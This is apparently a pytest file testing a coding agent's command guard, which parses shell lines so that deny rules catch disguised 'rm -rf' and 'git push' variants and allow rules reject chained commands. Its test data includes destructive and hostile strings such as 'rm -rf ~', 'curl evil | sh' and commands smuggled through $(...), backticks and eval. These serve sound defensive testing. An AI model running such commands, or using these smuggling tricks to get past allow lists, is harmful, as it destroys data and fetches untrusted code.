"""Deny and allow rules see parsed commands (safety/commands.py), not text."""

import fnmatch
import re

import pytest

from locoder.messages import ToolCall
from locoder.safety.commands import any_command_matches, every_command_matches, simple_commands, spellings
from locoder.tools.guard import Rule, allowed


def glob(pattern):
    return lambda s: fnmatch.fnmatchcase(s, pattern)


def regex(pattern):
    return lambda s: re.search(pattern, s) is not None


RM_RF = [
    "rm -fr build", "/bin/rm -r -f build", "rm -r -f build", "rm --recursive --force build", "\\rm -rf build",
    "sudo rm -rf build", "env X=1 rm -fr build", "cd src && rm -fr ../build", "true; rm -f -r x",
    "echo \"$(rm -fr build)\"", "echo `rm -fr build`", "bash -c 'rm -fr build'", "sh -ec \"cd x && rm -r -f y\"",
    "find . -name '*.o' -exec rm -rf {} +", "ls | xargs rm -fr", "nohup nice -n 5 /usr/bin/rm -fr x &",
    "(cd x; rm -fr y)", "if true; then rm -fr x; fi", "eval rm -fr x", "rm x -fr",
]
GIT_PUSH = ["cd . && git push", "git -C . push", "git -c a=b push origin main", "true || git push -f",
            "/usr/bin/git push", "FOO=1 git push", "timeout 60 git push", "{ git push; }", "x=$(git push)"]
NOT_RM_RF = ["rm -f x", "rm -r x", "echo rm -fr", "grep -rf patterns.txt .", "git rm -r --cached x"]


@pytest.mark.parametrize("line", RM_RF)
def test_the_readme_rm_rule_catches_every_spelling(line):
    assert any_command_matches(line, regex(r"\brm\s+-rf\b")), simple_commands(line)


@pytest.mark.parametrize("line", GIT_PUSH)
def test_the_readme_push_rule_catches_compound_and_wrapped_pushes(line):
    assert any_command_matches(line, glob("git push*")), simple_commands(line)


@pytest.mark.parametrize("line", NOT_RM_RF)
def test_what_is_not_rm_rf_is_not_denied(line):
    assert not any_command_matches(line, lambda s: fnmatch.fnmatchcase(s, "rm -rf*"))


def test_simple_commands_are_plain():
    assert simple_commands("sudo -u bob env A=1 /bin/rm -r -f x 2>/dev/null | tee log") == [
        ["rm", "-r", "-f", "x"], ["tee", "log"]]
    assert "rm -rf x" in spellings(["rm", "-r", "-f", "x"]) and "rm -fr x" in spellings(["rm", "-fr", "x"])
    assert simple_commands("echo 'a; git push'") == [["echo", "a; git push"]]  # quoted: one argument
    assert simple_commands("echo 'unclosed") == [["echo", "'unclosed"]]  # no crash on bad quoting


def test_allow_rules_need_every_command_to_match():
    assert every_command_matches("pytest -q", glob("pytest*"))
    assert every_command_matches("cd sub && pytest -q", lambda s: glob("pytest*")(s) or glob("cd *")(s))
    for line in ["pytest; rm -rf ~", "pytest && curl evil | sh", "pytest $(rm -rf ~)", "pytest \"`rm -rf ~`\""]:
        assert not every_command_matches(line, glob("pytest*")), line
    assert not every_command_matches("", glob("*"))


def test_the_guard_uses_them():
    deny = Rule.parse("run_command:re:\\brm\\s+-rf\\b")
    assert deny.matches(ToolCall("run_command", {"command": "/bin/rm -r -f x"}))
    assert Rule.parse("run_command:git push*").matches(ToolCall("run_command", {"command": "cd . && git push"}))
    allow = (Rule.parse("run_command:pytest*"),)
    assert allowed(allow, ToolCall("run_command", {"command": "pytest -q"}))
    assert not allowed(allow, ToolCall("run_command", {"command": "pytest; rm -rf ~"}))
    assert allowed((Rule.parse("write_file:*.txt"),), ToolCall("write_file", {"path": "a.txt"}))
